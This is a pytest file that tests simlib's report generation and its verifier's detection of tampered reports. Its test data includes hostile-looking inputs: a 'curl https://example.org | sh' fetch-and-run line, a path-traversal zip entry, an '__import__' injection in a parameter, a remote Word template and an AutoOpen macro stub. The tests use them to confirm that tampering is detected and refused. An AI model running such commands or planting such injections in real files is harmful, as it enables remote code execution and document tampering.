"""A report from the question to the verdict on it: made, opened in every form, altered, found out."""

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from base64 import b64decode, b64encode
from copy import deepcopy
from functools import cache
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryDirectory
from warnings import catch_warnings, simplefilter
from zipfile import ZIP_LZMA, ZIP_STORED, ZipFile

import docx
import openpyxl
import pytest
from pypdf import PdfReader

from simlib.cli.program import obey
from simlib.cli.reporting import verified_lines
from simlib.errors import SimlibError
from simlib.inputs.reading import read_world
from simlib.reports.blocks import MIME, Picture, parts_of
from simlib.reports.brief import brief
from simlib.reports.bundle import packed, unpacked
from simlib.reports.chapters import Report
from simlib.reports.making import BESIDE, IN_ZIP, embedded, forms, make, text_of
from simlib.reports.opening import opened
from simlib.reports.page import page
from simlib.reports.printing import browser, printed
from simlib.reports.templates import ReportOrigin, dumps, loads, prepared
from simlib.reports.verifying import compared, named, refuse_altered, verify
from simlib.views.language.provenance import counted_line
from simlib.views.language.words import words
from tests.reports.question import FEW, STEM

pytestmark = pytest.mark.slow  # a report takes a quarter of a minute
SCENARIOS = Path(__file__).parents[2] / "scenarios"
FORMS = ("brief.docx", "docx", "html", "ipynb", "xlsx", "zip")


def test_every_form_is_there_and_nothing_else(made, told):
    out, said = made
    assert sorted(path.name for path in out.iterdir()) == [f"{STEM}.{e}" for e in FORMS]
    assert [path.name for path in said.files] == [f"{STEM}.{e}" for e in FORMS]
    assert told[-1][0] == told[-1][1] == len(told)


def test_with_too_few_replications_it_draws_no_conclusion(made):
    out, said = made
    assert not said.sure
    html = (out / f"{STEM}.html").read_text("utf-8")
    assert "暂不作结论" in html
    assert "（现为3次）" in html
    assert "每100件多按期办结" in html or "每100件相差" in html


def test_the_page_bears_its_marks_and_fetches_nothing(made):
    html = (made[0] / f"{STEM}.html").read_text("utf-8")
    assert "演示数据，非真实业务数据" in html
    assert "供决策参考" in html
    bare = re.sub(r'src="data:image/png;base64,[^"]*"', "", html)
    assert re.findall(r"https?://|url\(|<link|@import|src=", bare) == []
    assert read_world(opened_scenario(made)).sha256 in html


def test_the_first_page_counts_what_is_the_county_s_own(made):
    """And what is borrowed and assumed: above the first chapter, as the list of assumptions counts it."""
    page = (made[0] / f"{STEM}.html").read_text("utf-8").split("<h2")[0]
    assert counted_line(words("zh"), read_world(opened_scenario(made))) in page


def opened_scenario(made):
    out, _ = made
    place = out.parent / "scenario.yaml"
    place.write_text(opened(out / f"{STEM}.zip").origin.scenario, "utf-8")
    return place


def test_the_scenario_inside_is_the_one_that_was_given(made, county):
    assert read_world(opened_scenario(made)).sha256 == read_world(county).sha256


@pytest.mark.parametrize("file", [*sorted(SCENARIOS.glob("*.yaml"))], ids=lambda file: file.stem)
def test_the_scenario_inside_gives_itself_again(tmp_path, file):
    text, world = embedded(file)
    (tmp_path / "scenario.yaml").write_text(text, "utf-8", newline="")
    again, same = embedded(tmp_path / "scenario.yaml")
    assert (again, same.sha256) == (text, world.sha256)


def test_the_notebook_ran_without_complaint(made):
    notebook = loads((made[0] / f"{STEM}.ipynb").read_text("utf-8"))
    kinds = {o.output_type for cell in notebook.cells for o in cell.get("outputs", [])}
    assert kinds == {"execute_result"}


def test_word_has_headings_tables_and_pictures(made):
    document = docx.Document(made[0] / f"{STEM}.docx")
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert headings[0] == "一、参加比较的方案"
    assert headings[-1] == "附件五：结果的标识"
    assert len(document.tables) > 15
    assert len(document.inline_shapes) == 9
    assert document.core_properties.author == "simlib"


def test_excel_has_every_table_with_numbers_as_numbers(made):
    book = openpyxl.load_workbook(made[0] / f"{STEM}.xlsx")
    sheet = book["按期办结"]
    shares = [row[2] for row in sheet.iter_rows(min_row=4, max_row=9, values_only=True)]
    assert all(0 < share < 1 for share in shares)
    assert book.sheetnames[0] == "目录"
    assert len(book.sheetnames) > 15


def test_the_zip_is_sorted_and_dated_alike(made):
    with ZipFile(made[0] / f"{STEM}.zip") as archive:
        names = archive.namelist()
        dates = {entry.date_time for entry in archive.infolist()}
    assert names == sorted(names)
    assert names == ["README.txt", "report.brief.docx", "report.docx", "report.html", "report.ipynb",
                     "report.xlsx", "scenario.yaml"]  # fmt: skip
    assert dates == {(1980, 1, 1, 0, 0, 0)}


# ---- again


def test_made_twice_it_is_the_same_to_the_byte(made, county, tmp_path):
    """Also where a browser fails, which costs the PDF alone; one of an earlier report goes."""
    out = tmp_path / "out"
    out.mkdir()
    (out / f"{STEM}.pdf").touch()
    again = make(county, FEW, out, find=lambda: broken_browser(tmp_path))
    assert again.unprinted.code == "cannot-print"
    assert {path.name for path in out.iterdir()} == {path.name for path in made[0].iterdir()}
    for path in made[0].iterdir():
        assert (out / path.name).read_bytes() == path.read_bytes(), path.suffix


def test_the_command_finds_the_one_number_that_was_altered(made, tmp_path, capsys):
    where = altered_zip(made, tmp_path, alter_number)
    assert obey(["verify", "--lang", "en", str(where)]) == 1
    said = capsys.readouterr().out
    assert "the report says “99.9%" in said
    assert "Not identical: 1 differences." in said


# ---- found out, without running again: what was made stands for what is found now


@pytest.fixture(scope="module")
def remade(report, county):
    """What running the template again makes of a report: the notebook that it gave, and its forms."""
    scenario, world = embedded(county)
    notebook = loads(report.files[f"{STEM}.zip/report.ipynb"].decode())
    fresh = cache(lambda text: forms(notebook, ReportOrigin.model_validate_json(text), scenario))
    return lambda found, *_: (notebook, fresh(text_of(named(found, world))))


@pytest.fixture(scope="module")
def again(remade):
    """What is found of a report where running the template again gives what it gave."""

    def find(where):
        found = opened(where)
        return compared(found, *remade(found))

    return find


def altered_zip(made, tmp_path, change):
    """The report's zip with another notebook."""
    notebook = loads(unpacked((made[0] / f"{STEM}.zip").read_bytes())["report.ipynb"].decode())
    change(notebook)
    return zip_with(made, tmp_path, {"report.ipynb": dumps(notebook).encode()})


def zip_with(made, tmp_path, others):
    """The report's zip with other files in it."""
    where = tmp_path / "altered.zip"
    where.write_bytes(packed(unpacked((made[0] / f"{STEM}.zip").read_bytes()) | others))
    return where


def alter_number(notebook):
    """One share in one table."""
    cell = first_cell(notebook)
    cell["text"], cell["value"] = "99.9%", 0.999


def first_cell(notebook):
    tables = [
        block
        for cell in notebook.cells
        for output in cell.get("outputs", [])
        for block in output.data.get(MIME, {}).get("blocks", [])
        if block["kind"] == "table"
    ]
    return next(c for t in tables for row in t["rows"] for c in row if c.get("unit") == "share")


def test_an_untouched_report_is_the_same_to_the_byte(made, again):
    found = again(made[0])
    assert found.same
    assert (found.differences, found.unjudged) == ((), ())
    assert found.figures > 300


def test_one_number_is_found_where_it_stands(made, again, tmp_path):
    where = altered_zip(made, tmp_path, alter_number)
    (found,) = again(where).differences
    assert found.stored == "99.9% [0.999]"
    assert "按期办结率" in found.where


def test_what_is_only_shown_is_compared_too(made, again, tmp_path):
    def change(notebook):
        shown = [o for c in notebook.cells for o in c.get("outputs", []) if "text/html" in o.data]
        shown[0].data["text/html"] = shown[0].data["text/html"].replace("件", "万件", 1)

    (found,) = again(altered_zip(made, tmp_path, change)).differences
    assert found.where == "altered.zip/report.ipynb"
    assert "万件" in found.stored
    assert "万件" not in found.now


def more(text):
    """A change that writes something after the first closing tag."""
    return lambda part: part.replace(b">", b">" + text.encode(), 1)


def other(old, new):
    """A change of one text."""

    def change(part):
        assert old.encode() in part
        return part.replace(old.encode(), new.encode(), 1)

    return change


RUN = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>99.9%</w:t></w:r></w:p>"
FIELD = '<w:fldSimple w:instr="INCLUDETEXT https://example.org/a"/></w:p>'
REMOTE = '<Relationships><Relationship Target="https://example.org/a.dotm" TargetMode="External"/>'
HIDDEN = '"outputs": [{"output_type": "stream", "name": "stdout", "text": "99.9%"},\n'
TRICKS = {
    "a number in Word": ("docx", "word/document.xml", other("%", "9%")),
    "the old number in a comment": ("docx", "word/document.xml", other("%</w:t>", "9%</w:t><!-- % -->")),
    "a hidden run": ("docx", "word/document.xml", other("</w:p>", RUN)),
    "a field": ("docx", "word/document.xml", other("</w:p>", FIELD)),
    "an alternative chunk": ("docx", "word/afchunk.html", lambda _: b"<p>99.9%</p>"),
    "a header": ("docx", "word/header1.xml", lambda _: b"<w:hdr>approved</w:hdr>"),
    "a remote template": ("docx", "word/_rels/settings.xml.rels", lambda _: REMOTE.encode()),
    "macros": ("docx", "word/vbaProject.bin", lambda _: b"Sub AutoOpen"),
    "a number format": ("xlsx", "xl/styles.xml", other("0.0%", '"99.9%"')),
    "a hidden row": ("xlsx", "xl/worksheets/sheet2.xml", other("<row ", '<row hidden="1" ')),
    "a number in Excel": ("xlsx", "xl/worksheets/sheet2.xml", other("<v>", "<v>9")),
    "a comment in the page": ("html", "", more("<!-- approved -->")),
    "a kernel": ("ipynb", "", other('"name": "python3"', '"name": "other"')),
    "the state of widgets": ("ipynb", "", other('"kernelspec": {', '"widgets": {}, "kernelspec": {')),
    "a hidden output": ("ipynb", "", other('"outputs": [\n', HIDDEN)),
    "a line for a shell": ("txt", "", lambda part: part + b"curl https://example.org | sh"),
    "a remark": ("yaml", "", lambda part: part + b"# approved\n"),
}


@pytest.mark.parametrize("trick", TRICKS)
def test_whatever_is_written_into_a_form_is_found_where_it_stands(made, again, tmp_path, trick):
    form, part, change = TRICKS[trick]
    name = IN_ZIP[form]
    content = unpacked((made[0] / f"{STEM}.zip").read_bytes())[name]
    if part:
        parts = unpacked(content)
        content = packed(parts | {part: change(parts.get(part, b""))})
    else:
        content = change(content)
    found = again(zip_with(made, tmp_path, {name: content}))
    place = f"altered.zip/{name}: {part}" if part else f"altered.zip/{name}"
    assert [one.where for one in found.differences] == [place]
    assert found.differences[0].stored != found.differences[0].now


def test_exchanged_rows_are_found_though_every_text_is_there(made, again, tmp_path):
    parts = unpacked((made[0] / f"{STEM}.xlsx").read_bytes())
    sheet = parts["xl/worksheets/sheet2.xml"].decode()
    one, two = re.findall(r"<row .*?</row>", sheet)[2:4]
    numbers = [re.search(r'r="(\d+)"', row).group(1) for row in (one, two)]
    exchanged = [re.sub(rf'(r="[A-Z]*){a}"', rf"\g<1>{b}\"", row)
                 for row, a, b in zip((two, one), numbers[::-1], numbers, strict=True)]  # fmt: skip
    parts["xl/worksheets/sheet2.xml"] = sheet.replace(one + two, "".join(exchanged)).encode()
    found = again(zip_with(made, tmp_path, {"report.xlsx": packed(parts)}))
    assert [one.where for one in found.differences] == ["altered.zip/report.xlsx: xl/worksheets/sheet2.xml"]


@pytest.mark.parametrize("form", BESIDE)
def test_what_lies_beside_the_zip_is_compared_too(made, again, tmp_path, form):
    for path in made[0].iterdir():
        shutil.copy(path, tmp_path)
    target = tmp_path / f"{STEM}.{form}"
    source = made[0] / f"{STEM}.{form}"
    if form.endswith(("docx", "xlsx")):
        target.write_bytes(packed(unpacked(source.read_bytes()) | {"more": b"1"}))
    else:
        target.write_bytes(source.read_bytes() + b" ")
    (found,) = again(tmp_path).differences
    assert found.where.split(":")[0] == target.name


def test_a_page_is_verified_with_the_zip_beside_it(made, tmp_path):
    page = made[0] / f"{STEM}.html"
    assert page.name in opened(page).files
    shutil.copy(page, tmp_path)
    with pytest.raises(SimlibError) as alone:
        opened(tmp_path / page.name)
    assert alone.value.code == "no-zip-beside"


def test_what_was_compared_is_said_by_name_and_what_was_not(made, again, tmp_path):
    inside = [f"{STEM}.zip/{name}" for name in IN_ZIP.values()]
    beside = [f"{STEM}.{form}" for form in BESIDE]
    for path in made[0].iterdir():
        shutil.copy(path, tmp_path)
    (tmp_path / f"{STEM}.pdf").write_bytes(b"%PDF-1.4")
    (tmp_path / "letter.doc").write_bytes(b"dear")
    names = {
        tmp_path: ([*inside, *beside], ("letter.doc", f"{STEM}.pdf")),
        tmp_path / f"{STEM}.zip": (inside, (f"{STEM}.pdf",)),
        tmp_path / f"{STEM}.html": ([*inside, f"{STEM}.html"], (f"{STEM}.pdf",)),
        tmp_path / f"{STEM}.ipynb": ([f"{STEM}.ipynb"], (f"{STEM}.pdf",)),
    }
    for path, (files, unread) in names.items():
        report = opened(path)
        assert sorted(report.files) == sorted(files)
        assert report.unread == unread
    lines = [*verified_lines(words("zh"), again(tmp_path))]
    assert {f"  {name}" for name in names[tmp_path][0]} < {*lines}
    assert f"未比对：letter.doc{words('zh')(', ')}{STEM}.pdf。" in lines
    assert [
        line
        for line in verified_lines(words("en"), again(made[0]))
        if line.startswith("PDFs are not compared")
    ]


# ---- tools of other versions: what they write cannot be judged here, and all else is


def redraw(notebook):
    """One picture is another, and as large."""
    shown = next(o for c in notebook.cells for o in c.get("outputs", []) if "image/png" in o.data)
    picture = bytearray(b64decode(shown.data["image/png"]))
    picture[len(picture) // 2] ^= 255
    shown.data["image/png"] = b64encode(picture).decode()


def claim(**tools):
    """A report that says that it was made with other tools."""
    return lambda notebook: notebook.metadata["simlib"]["tools"].update(tools)


def forms_with(made, change, tmp_path):
    """The whole report as it would be with another notebook."""
    notebook = loads(unpacked((made[0] / f"{STEM}.zip").read_bytes())["report.ipynb"].decode())
    for one in change:
        one(notebook)
    said = dict(notebook.metadata["simlib"])
    scenario = said.pop("scenario")
    made_so = forms(notebook, ReportOrigin.model_validate_json(json.dumps(said)), scenario)
    return zip_with(made, tmp_path, {IN_ZIP[form]: content for form, content in made_so.items()})


def test_another_picture_is_found_once_though_every_form_holds_it(made, again, tmp_path):
    found = again(forms_with(made, [redraw], tmp_path))
    assert [one.where for one in found.differences] == ["image/png 1"]


def test_a_picture_by_another_library_cannot_be_judged_and_all_else_is(made, again, tmp_path):
    changes = [redraw, claim(matplotlib="3.0")]
    found = again(forms_with(made, changes, tmp_path))
    assert (found.differences, found.same) == ((), False)
    assert [one.where for one in found.unjudged] == ["image/png 1"]
    said = [*verified_lines(words("en"), found)]
    assert said[0].startswith("Made with matplotlib 3.0; this machine has ")
    assert "cannot be judged: image/png 1" in said
    assert not any("Identical" in line for line in said)

    found = again(forms_with(made, [*changes, alter_number], tmp_path))
    assert found.differences[0].stored == "99.9% [0.999]"
    assert [one.where for one in found.unjudged] == ["image/png 1"]


def test_a_form_with_other_pictures_than_the_notebook_is_found_whatever_it_claims(made, again, tmp_path):
    shown = unpacked(forms_with(made, [redraw], tmp_path).read_bytes())
    where = forms_with(made, [claim(matplotlib="3.0")], tmp_path)
    files = unpacked(where.read_bytes())
    where.write_bytes(packed(files | {"report.docx": shown["report.docx"]}))
    found = again(where)
    assert {one.where.split("/")[1] for one in found.differences} == {"report.docx: word"}


def test_the_same_bytes_by_another_version_are_the_same_and_the_version_is_said(made, again, tmp_path):
    found = again(forms_with(made, [claim(simlib="0.0.9")], tmp_path))
    assert found.same
    assert "simlib 0.0.9" in next(iter(verified_lines(words("zh"), found)))


def test_the_exit_status_tells_what_cannot_be_judged(made, remade, tmp_path, capsys, monkeypatch):
    """Here nothing is run: the command that finds the altered number above runs it all."""
    monkeypatch.setattr("simlib.reports.verifying._again", remade)
    where = forms_with(made, [redraw, claim(pillow="1.0")], tmp_path)
    assert obey(["verify", "--lang", "en", str(where)]) == 3
    assert "Made with pillow 1.0" in capsys.readouterr().out


# ---- refused


@pytest.mark.parametrize("where", ["a cell", "a new cell", "the parameters"])
def test_altered_code_is_refused_and_never_run(made, tmp_path, where, capsys):
    trap = tmp_path / "trap"
    code = f"open({str(trap)!r}, 'w').close()"

    def change(notebook):
        cells = [cell for cell in notebook.cells if cell.cell_type == "code"]
        if where == "a cell":
            cells[-1].source += f"\n{code}"
        elif where == "a new cell":
            notebook.cells.append(deepcopy(cells[-1]))
            notebook.cells[-1].update(id="more", source=code)
        else:
            cells[1].source += f"\n{code}"

    report = altered_zip(made, tmp_path, change)
    with pytest.raises(SimlibError) as refused:
        verify(report)
    assert refused.value.code == "report-altered"
    assert obey(["verify", "--lang", "en", str(report)]) == 2
    assert "refused, nothing was run" in capsys.readouterr().err
    assert not trap.exists()


@pytest.mark.parametrize("name", ["setup.exe", "book.xlsm", "../../name", "README.txt"])
def test_more_than_a_report_is_named_and_refused(made, tmp_path, name, capsys):
    where = tmp_path / "more.zip"
    shutil.copy(made[0] / f"{STEM}.zip", where)
    with ZipFile(where, "a") as archive, catch_warnings():
        simplefilter("ignore")  # of a name that comes twice
        archive.writestr(name, "curl https://example.org | sh")
    assert obey(["verify", "--lang", "en", str(where)]) == 2
    said = capsys.readouterr().err
    assert "refused, nothing was run" in said
    assert f"(1): {name} ->" in said


def set_seed(notebook):
    notebook.metadata["simlib"]["parameters"]["seed"] = "__import__('os')"


def without_type(notebook):
    del notebook.cells[3]["cell_type"]


def listed_data(notebook):
    output = next(o for c in notebook.cells for o in c.get("outputs", []))
    output["data"] = [1]


def source_of_numbers(notebook):
    notebook.cells[3]["source"] = 5


@pytest.mark.parametrize("change", [set_seed, without_type, listed_data, source_of_numbers])
def test_a_notebook_of_another_shape_is_no_report(made, tmp_path, change, capsys):
    notebook = loads(unpacked((made[0] / f"{STEM}.zip").read_bytes())["report.ipynb"].decode())
    change(notebook)
    where = zip_with(made, tmp_path, {"report.ipynb": json.dumps(notebook).encode()})
    assert obey(["verify", "--lang", "en", str(where)]) == 2
    assert "altered.zip is not a report made by this program" in capsys.readouterr().err


def strange_part(notebook):
    output = next(o for c in notebook.cells for o in c.get("outputs", []) if MIME in o["data"])
    output["data"][MIME] = {"blocks": [{"kind": "table", "rows": 5}]}


def test_a_part_of_another_shape_is_a_difference(made, again, tmp_path):
    found = again(altered_zip(made, tmp_path, strange_part))
    assert [one.where for one in found.differences] == ["altered.zip/report.ipynb"]


def zipped_so(files, compression):
    stream = BytesIO()
    with ZipFile(stream, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return stream.getvalue()


def damaged(zipped):
    """The zip with a few bytes in the midst of its longest file turned round."""
    middle = len(zipped) // 2
    return zipped[:middle] + bytes(b ^ 255 for b in zipped[middle : middle + 9]) + zipped[middle + 9 :]


DAMAGES = {
    "nothing": lambda zipped: b"",
    "the head of a zip": lambda zipped: b"PK\x03\x04broken",
    "another zip": lambda zipped: packed({"scenario.yaml": b"1"}),
    "damaged deflate": damaged,
    "cut off": lambda zipped: zipped[:-9],
    "LZMA": lambda zipped: zipped_so(unpacked(zipped), ZIP_LZMA),
    "not deflated": lambda zipped: zipped_so(unpacked(zipped), ZIP_STORED),
    "a name that is not UTF-8": lambda zipped: zipped_so({"名": b""}, ZIP_STORED).replace(
        "名".encode(), b"\xff" * 3
    ),
    "a program before it": lambda zipped: b"MZ" + zipped,
    "something behind it": lambda zipped: zipped + b"more",
}


@pytest.mark.parametrize("damage", DAMAGES)
def test_what_is_no_report_is_said(made, tmp_path, damage, capsys):
    where = tmp_path / "a.zip"
    where.write_bytes(DAMAGES[damage]((made[0] / f"{STEM}.zip").read_bytes()))
    assert obey(["verify", "--lang", "en", str(where)]) == 2
    assert "a.zip is not a report made by this program" in capsys.readouterr().err


def test_a_report_that_is_not_there_is_said(tmp_path, capsys):
    assert obey(["verify", "--lang", "en", str(tmp_path / "none.zip")]) == 2
    assert "no such file" in capsys.readouterr().err


def test_the_template_of_the_report_passes(report):
    refuse_altered(report, prepared(report.origin.parameters))


# ---- paper


@pytest.mark.skipif(browser() is None, reason="no Chromium, Chrome or Edge on this machine")
def test_a_browser_prints_the_page(made):
    content = printed(made[0] / f"{STEM}.html", browser())
    pages = PdfReader(BytesIO(content)).pages
    first = pages[0].extract_text()
    assert "协作区划分方案比较报告" in first.replace(" ", "")
    assert float(pages[0].mediabox.width) == pytest.approx(595, abs=2)
    assert f"/ {len(pages)}" in first or f"/{len(pages)}" in first.replace(" ", "")


def test_the_brief_is_two_pages_page_one_and_the_maps(made, report, tmp_path):
    parts = brief(list(parts_of([{"data": o.data} for c in report.notebook.cells for o in c.outputs])))
    pictures = [block for one in parts for block in one.blocks if isinstance(block, Picture)]
    assert [p.title.startswith("示意图") for p in pictures] == [True, True]
    document = docx.Document(made[0] / f"{STEM}.brief.docx")
    assert len(document.inline_shapes) == 2
    high = sum(shape.height.cm for shape in document.inline_shapes)
    assert high < 22  # of the 26 that page two has
    if browser() is not None:
        file = tmp_path / "brief.html"
        file.write_text(page(parts, "zh", "{}"), encoding="utf-8")
        assert len(PdfReader(BytesIO(printed(file, browser()))).pages) == 2


def broken_browser(folder):
    fake = folder / "browser"
    fake.write_text("#!/bin/sh\nexit 3\n")
    fake.chmod(0o755)
    return fake


def test_a_browser_that_prints_nothing_is_named(made, tmp_path):
    with pytest.raises(SimlibError) as failed:
        printed(made[0] / f"{STEM}.html", broken_browser(tmp_path))
    assert failed.value.code == "cannot-print"


def test_without_a_browser_none_is_found(without_browser):
    assert browser() is None


def test_the_command_says_that_there_is_no_browser(
    made, county, tmp_path, monkeypatch, capsys, without_browser
):
    import simlib.reports.making as making

    monkeypatch.setattr(making, "make", lambda *_: made[1])
    assert obey(["report", "--lang", "en", str(county), "--plans", "one-pool"]) == 0
    said = capsys.readouterr()
    assert f"{STEM}.html" in said.out
    assert "No PDF: no Chromium" in said.err
    assert "draws no conclusion" in said.err


# ---- asked wrongly


def test_what_cannot_be_made_is_said_before_anything_is_run(county, tmp_path, capsys):
    for extra, rule in (
        (["--plans", "nobody"], "no such zone plan: nobody"),
        (["--plans", "plan-2021"], "no plan to report on beside the baseline"),
        (["--kind", "other"], "no such report: other"),
    ):
        command = ["report", "--lang", "en", str(county), "--out", str(tmp_path / "o"), *extra]
        assert obey(command) == 2
        assert rule in capsys.readouterr().err
    assert list(tmp_path.rglob("*.part")) == []
    assert list(tmp_path.rglob("*.html")) == []


def test_the_page_says_what_it_was_made_of(report, made):
    page = (made[0] / f"{STEM}.html").read_text("utf-8")
    said = json.loads(re.search(r'id="simlib-report">(.*?)</script>', page).group(1))
    assert ReportOrigin.model_validate_json(json.dumps(said)) == ReportOrigin(
        **{name: getattr(report.origin, name) for name in ("parameters", "sha256", "tools")}
    )


@pytest.mark.skipif(os.name == "nt", reason="Windows sends no SIGINT to another process")
def test_ctrl_c_leaves_nothing_behind(county, tmp_path):
    out = tmp_path / "out"
    code = "from simlib.cli.program import main; main()"
    asked = ["report", str(county), "--out", str(out), "--replications", "100000"]
    command = [sys.executable, "-c", code, *asked]
    with TemporaryDirectory() as short:  # the name of a socket must be short
        env = {**os.environ, "TMPDIR": short}
        program = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env
        )
        wait_for(lambda: len([*Path(short).glob("*/kernel-*")]) == CHANNELS)
        program.send_signal(signal.SIGINT)
        _, said = program.communicate(timeout=60)
    assert program.returncode == 130, said
    assert list(out.iterdir()) == []
    assert "Traceback" not in said


CHANNELS = 5
"""Sockets at which a kernel that has started listens."""


def wait_for(there, seconds=60):
    end = time.monotonic() + seconds
    while not there():
        assert time.monotonic() < end
        time.sleep(0.02)


@pytest.mark.parametrize(("plans", "shown"), [(("one-pool",), True), (("one-pool", "separate"), False)])
def test_page_one_has_the_map_before_and_after_where_no_table_of_plans_takes_its_room(county, plans, shown):
    """With several plans it would have a page of its own, and each plan has its map further on."""
    made = Report.of(county, "zone-plan", plans, ["central"], 1, 2, "zh", False, False)
    assert (made.show("before and after") is not None) == shown
